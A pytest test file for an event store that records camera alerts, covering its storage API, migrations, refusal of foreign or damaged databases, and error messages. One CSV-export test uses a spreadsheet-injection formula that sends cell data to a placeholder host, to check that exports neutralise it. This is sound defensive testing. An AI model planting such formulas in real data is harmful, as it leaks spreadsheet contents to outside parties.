"""The event store on a real SQLite file and a real PostgreSQL server started by the test."""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path

import pytest

pytest.importorskip("sqlalchemy")
pytest.importorskip("alembic")

from pgserver import fresh_database, postgres_server  # noqa: E402, F401

from arnet.store import StoreError, open_store  # noqa: E402


def _segments(first: int, count: int, score: float = 0.1) -> list[dict]:
    return [
        {
            "segment": i,
            "start_frame": 16 * i,
            "end_frame": 16 * i + 15,
            "start_time": 1000.0 + i,
            "end_time": 1001.0 + i,
            "score": score,
        }
        for i in range(first, first + count)
    ]


def _alert(start: int, end: int, state: str, peak: float = 0.9) -> dict:
    return {
        "state": state,
        "start_segment": start,
        "end_segment": end,
        "start_frame": 16 * start,
        "end_frame": 16 * end + 15,
        "start_time": 1000.0 + start,
        "end_time": 1001.0 + end,
        "peak_score": peak,
        "peak_frame": 16 * start,
        "peak_time": 1000.0 + start,
        "threshold": 0.5,
    }


def exercise(store) -> None:  # noqa: ANN001
    """The read and write API, the same on every backend."""
    cam = store.register_camera("gate", "rtsp://cam/1", start_threshold=0.5, stop_threshold=0.4)
    assert cam["next_segment"] == 0 and cam["state"] == "starting"
    (first,) = store.commit_segments(cam["id"], _segments(0, 4), [_alert(2, 3, "open")])
    # the same segments and alert again (a restarted watcher): nothing duplicated, alert updated
    (again,) = store.commit_segments(
        cam["id"], _segments(0, 4, score=0.7), [{**_alert(2, 3, "closed"), "peak_image": b"J"}]
    )
    assert again == first
    assert [s["score"] for s in store.scores("gate")] == [0.1] * 4  # first write kept
    assert [s["segment"] for s in store.scores("gate", since_segment=1)] == [2, 3]
    assert [s["segment"] for s in store.scores("gate", limit=2)] == [2, 3]
    assert [s["segment"] for s in store.scores("gate", since_time=1001.0)] == [1, 2, 3]
    assert store.scores("nobody") == []
    other = store.register_camera("yard", "file.mp4")
    store.commit_segments(other["id"], _segments(0, 9), [_alert(5, 8, "open", 0.8)])
    page, total = store.alerts()
    assert total == 2 and [a["camera"] for a in page] == ["yard", "gate"]  # newest first
    assert store.alerts(camera="gate")[1] == 1
    assert store.alerts(state="open")[0][0]["camera"] == "yard"
    assert store.alerts(since=1004.0)[1] == 1 and store.alerts(until=1003.0)[1] == 1
    assert store.alerts(limit=1, offset=1)[0][0]["camera"] == "gate"
    ack = store.acknowledge(first, "a cyclist", by="ana")
    assert ack["alert_id"] == first and ack["by"] == "ana"
    assert [a["camera"] for a in store.alerts(acknowledged=True)[0]] == ["gate"]
    assert [a["camera"] for a in store.alerts(acknowledged=False)[0]] == ["yard"]
    full = store.alert(first)
    assert full["state"] == "closed" and full["has_image"] and full["acknowledged"]
    assert [s["segment"] for s in full["segments"]] == [2, 3]
    assert full["acknowledgements"][0]["note"] == "a cyclist"
    assert store.alert_image(first) == b"J" and store.alert(10**6) is None
    with pytest.raises(KeyError):
        store.acknowledge(10**6, "none")
    cams = {c["name"]: c for c in store.cameras()}
    assert cams["gate"]["next_segment"] == 4 and cams["gate"]["next_frame"] == 64
    assert cams["yard"]["open_alert_id"] is not None and cams["gate"]["open_alert_id"] is None
    # whether someone has seen the open alert (gate's acknowledged alert is closed)
    assert [cams[n]["open_alert_acknowledged"] for n in ("gate", "yard")] == [False, False]
    store.acknowledge(cams["yard"]["open_alert_id"], "", by="li")
    assert store.camera("yard")["open_alert_acknowledged"] is True
    assert store.camera("gate")["open_alert_acknowledged"] is False
    acks = store.acknowledgements([first, cams["yard"]["open_alert_id"], 10**6])
    assert [a["note"] for a in acks[first]] == ["a cyclist"] and acks[10**6] == []
    assert [a["by"] for a in acks[cams["yard"]["open_alert_id"]]] == ["li"]
    store.set_state(cam["id"], "reconnecting", "connection refused", event="disconnected", frame=64)
    assert store.events("gate")[0]["kind"] == "disconnected"
    assert store.camera("gate")["state"] == "reconnecting"
    # registering again keeps the numbering (a restart continues)
    assert store.register_camera("gate", "rtsp://cam/2")["next_segment"] == 4


def test_sqlite_store(tmp_path: Path) -> None:
    with open_store(tmp_path / "events.db") as store:
        exercise(store)
    with open_store(f"sqlite:///{tmp_path / 'events.db'}") as store:  # reopened: data kept
        assert store.alerts()[1] == 2
    mode = subprocess.run(
        [
            sys.executable,
            "-c",
            "import sqlite3,sys; c=sqlite3.connect(sys.argv[1]);"
            "print(c.execute('PRAGMA journal_mode').fetchone()[0])",
            str(tmp_path / "events.db"),
        ],
        capture_output=True,
        text=True,
        check=True,
    )
    assert mode.stdout.strip() == "wal"


def test_migrations_build_the_declared_schema(tmp_path: Path) -> None:
    from alembic.autogenerate import compare_metadata
    from alembic.runtime.migration import MigrationContext

    from arnet.store.migrations_path import VERSION_TABLE
    from arnet.store.schema import metadata

    with open_store(tmp_path / "m.db") as store, store.engine.connect() as conn:
        context = MigrationContext.configure(conn, opts={"version_table": VERSION_TABLE})
        diff = compare_metadata(context, metadata)
    assert diff == [], diff


def test_bad_stores_are_named(tmp_path: Path) -> None:
    with pytest.raises(StoreError, match=r"mysql://u:\*\*\*@h/db: unsupported database"):
        open_store("mysql://u:secret@h/db")
    with pytest.raises(StoreError, match="does not exist"):
        open_store(tmp_path / "no" / "such" / "events.db")
    junk = tmp_path / "junk.db"
    junk.write_bytes(b"this is not a database, it is a text file of some length" * 50)
    with pytest.raises(StoreError, match="junk.db"):
        open_store(junk)
    assert junk.read_bytes().startswith(b"this is not")  # never overwritten
    with pytest.raises(StoreError) as info:
        open_store("postgresql://watch:hunter2@127.0.0.1:1/events")
    message = str(info.value)
    assert "cannot reach" in message and "127.0.0.1:1/events" in message
    assert "hunter2" not in message and "\n" not in message


def test_postgresql_store(postgres_server: str) -> None:  # noqa: F811
    url = fresh_database(postgres_server, "store_api")
    with open_store(url) as store:
        exercise(store)
    with open_store(url) as store:
        assert store.alerts()[1] == 2


# ---------------------------------------------------------------------- readers never write


def _journal_mode(path: Path) -> str:
    import sqlite3

    with sqlite3.connect(f"file:{path}?mode=ro", uri=True) as conn:
        return conn.execute("PRAGMA journal_mode").fetchone()[0]


def _one_line(capsys) -> str:  # noqa: ANN001
    err = capsys.readouterr().err.strip()
    assert len(err.splitlines()) == 1 and "Traceback" not in err, err
    return err


def test_readers_never_create_migrate_or_change_a_database(tmp_path: Path, capsys) -> None:  # noqa: ANN001
    import sqlite3

    from arnet.cli import main

    other = tmp_path / "other.sqlite"  # another program's database, in its own journal mode
    with sqlite3.connect(other) as conn:
        conn.execute("CREATE TABLE invoices (id INTEGER PRIMARY KEY, total REAL)")
        conn.execute("INSERT INTO invoices (total) VALUES (9.5)")
    before = other.read_bytes()
    for argv in (
        ["alerts", "--db", str(other)],
        ["alerts", "--db", str(other), "--ack", "1"],
        ["alerts", "--db", str(other), "--format", "csv"],
    ):
        assert main(argv) == 2
        line = _one_line(capsys)
        assert "other.sqlite: not an arnet event store" in line and "invoices" in line, line
    assert other.read_bytes() == before and _journal_mode(other) == "delete"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["other.sqlite"]
    # a mistyped path is refused, never created, by a listing and by an acknowledgement
    for argv in (["alerts", "--db", str(tmp_path / "typo.db")], ["alerts", "--ack", "1", "--db",
                 str(tmp_path / "typo.db")]):  # fmt: skip
        assert main(argv) == 2
        assert "typo.db: no such event store" in _one_line(capsys)
    assert not (tmp_path / "typo.db").exists()
    # nor does the store API's reader
    with pytest.raises(StoreError, match="not an arnet event store"):
        open_store(other, "read")
    with pytest.raises(StoreError, match="no such event store"):
        open_store(tmp_path / "nothere.db", "read")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["other.sqlite"]


def test_a_writer_refuses_another_programs_database_and_devices(tmp_path: Path) -> None:
    import sqlite3

    other = tmp_path / "other.sqlite"
    with sqlite3.connect(other) as conn:
        conn.execute("CREATE TABLE invoices (id INTEGER PRIMARY KEY)")
    before = other.read_bytes()
    with pytest.raises(StoreError, match="tables of another program: invoices"):
        open_store(other)
    assert other.read_bytes() == before and _journal_mode(other) == "delete"
    journal = Path("/dev/null-journal")
    existed = journal.exists()
    with pytest.raises(StoreError, match="/dev/null: a device or special file, not an event"):
        open_store("/dev/null")
    assert journal.exists() == existed
    with pytest.raises(StoreError, match="a folder, not an event store file"):
        open_store(tmp_path)


def test_a_store_missing_a_table_or_of_a_newer_arnet_is_one_line(tmp_path: Path, capsys) -> None:  # noqa: ANN001
    import sqlite3

    from arnet.cli import main

    db = tmp_path / "e.db"
    with open_store(db) as store:
        store.register_camera("gate", "x")
    with sqlite3.connect(db) as conn:
        conn.execute("DROP TABLE acknowledgements")
        conn.execute("DROP TABLE alerts")
    for argv in (["alerts", "--db", str(db)], ["alerts", "--db", str(db), "--ack", "1"]):
        assert main(argv) == 2
        assert "e.db: a damaged event store: its table(s) alerts, acknowledgements are" in (
            _one_line(capsys)
        )
    with pytest.raises(StoreError, match="a damaged event store"):
        open_store(db)  # a writer does not recreate them over the data that is left
    newer = tmp_path / "newer.db"
    with open_store(newer):
        pass
    with sqlite3.connect(newer) as conn:
        conn.execute("UPDATE arnet_store_version SET version_num = '9999'")
    assert main(["alerts", "--db", str(newer)]) == 2
    assert "revision 9999, made by a newer arnet" in _one_line(capsys)


def test_huge_ids_and_pages_are_answers_not_tracebacks(tmp_path: Path, capsys) -> None:  # noqa: ANN001
    from arnet.cli import main

    db = tmp_path / "e.db"
    with open_store(db) as store:
        cam = store.register_camera("gate", "x")
        store.commit_segments(cam["id"], _segments(0, 4), [_alert(1, 2, "closed")])
        assert store.alert(10**20) is None and store.alert_image(-(10**20)) is None
        with pytest.raises(KeyError):
            store.acknowledge(10**20)
        assert store.alerts(offset=10**20)[0] == [] and store.alerts(limit=10**20)[1] == 1
        assert store.scores("gate", since_segment=10**20) == []
        assert len(store.scores("gate", limit=10**20)) == 4
    huge = "99999999999999999999"
    assert main(["alerts", "--db", str(db), "--ack", huge]) == 2
    assert f"--ack {huge}: no such alert" in _one_line(capsys)
    assert main(["alerts", "--db", str(db), "--limit", huge]) == 0
    assert capsys.readouterr().out.startswith("1 of 1 alert(s)")
    assert main(["alerts", "--db", str(db), "--offset", huge]) == 0
    assert capsys.readouterr().out.startswith("0 of 1 alert(s)")


def test_an_unknown_camera_or_no_time_is_named(tmp_path: Path, capsys) -> None:  # noqa: ANN001
    from arnet.cli import main

    with pytest.raises(SystemExit) as stop:
        main(["alerts", "--db", str(tmp_path / "e.db"), "--since", "nan"])
    assert stop.value.code == 2 and "argument --since: not a time: 'nan'" in _one_line(capsys)

    db = tmp_path / "e.db"
    with open_store(db) as store:
        store.register_camera("gate", "x")
        store.register_camera("yard", "y")
    assert main(["alerts", "--db", str(db), "--camera", "nosuch"]) == 2
    assert "--camera nosuch: no such camera in" in (line := _one_line(capsys))
    assert "its cameras: gate, yard" in line


def test_the_alerts_csv_neutralises_names_written_through_the_api(tmp_path: Path, capsys) -> None:  # noqa: ANN001
    import csv

    from arnet.cli import main

    db = tmp_path / "e.db"
    evil = '=HYPERLINK("http://x.example/?"&A1,"click")'
    with open_store(db) as store:
        cam = store.register_camera(evil, "x")
        store.commit_segments(cam["id"], _segments(0, 2), [_alert(0, 1, "closed")])
    assert main(["alerts", "--db", str(db), "--format", "csv"]) == 0
    (row,) = csv.DictReader(capsys.readouterr().out.splitlines())
    assert row["camera"] == "'" + evil and row["peak_score"] == "0.9"


def _store_at(path: Path, revision: str) -> None:
    """A SQLite store as an earlier arnet left it: migrated up to `revision` only."""
    from alembic import command

    from arnet.store.engine import _script, create_engine, make_url

    engine = create_engine(make_url(path))
    config, _ = _script()
    with engine.begin() as conn:
        config.attributes["connection"] = conn
        command.upgrade(config, revision)
    engine.dispose()


def test_readers_read_a_store_of_the_first_revision_as_it_is(tmp_path: Path, capsys) -> None:  # noqa: ANN001
    import sqlite3

    from arnet.cli import main

    db = tmp_path / "old.db"
    _store_at(db, "0001")
    with sqlite3.connect(db) as conn:
        conn.execute(
            "INSERT INTO cameras (name, source, state, next_segment, next_frame, created, "
            "updated) VALUES ('gate', 'x', 'stopped', 4, 64, 0, 0)"
        )
    assert main(["alerts", "--db", str(db)]) == 0
    assert capsys.readouterr().out.startswith("0 of 0 alert(s)")
    with open_store(db, "read") as store:
        assert store.camera("gate")["next_frame"] == 64
    with sqlite3.connect(db) as conn:
        assert conn.execute("SELECT version_num FROM arnet_store_version").fetchone()[0] == "0001"
    with open_store(db) as store:  # a watcher migrates it: the read position is the frame count
        claim = store.claim_camera("gate", "x", _holder())
        assert claim.camera["source_position"] == 64 and claim.previous_source == "x"


def _holder(**changes):  # noqa: ANN003, ANN202
    from dataclasses import replace

    from arnet.store.events import Holder

    return replace(Holder.this_process("test"), **changes)


def test_an_export_file_that_appears_while_it_is_written_is_kept(tmp_path: Path) -> None:
    from arnet.atomic import write_atomic

    target = tmp_path / "alerts.csv"

    def write(f) -> None:  # noqa: ANN001
        target.write_text("another program's")  # appears between the check and the rename
        f.write(b"mine")

    with pytest.raises(FileExistsError):
        write_atomic(target, write, replace=False)
    assert target.read_text() == "another program's"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["alerts.csv"]  # no temporary left
    write_atomic(tmp_path / "new.csv", lambda f: f.write(b"mine"), replace=False)
    assert (tmp_path / "new.csv").read_bytes() == b"mine"


def test_a_path_is_a_path_question_marks_and_all(tmp_path: Path) -> None:
    odd = tmp_path / "events?v=2#main %20.db"
    with open_store(odd) as store:
        store.register_camera("gate", "x")
        assert store.url == f"sqlite:///{odd}"
    assert sorted(p.name for p in tmp_path.iterdir() if p.suffix == ".db") == [odd.name]
    with open_store(odd, "read") as store:
        assert [c["name"] for c in store.cameras()] == ["gate"]
    with pytest.raises(StoreError, match="no such event store"):
        open_store(tmp_path / "events", "read")  # the part before "?" is no store
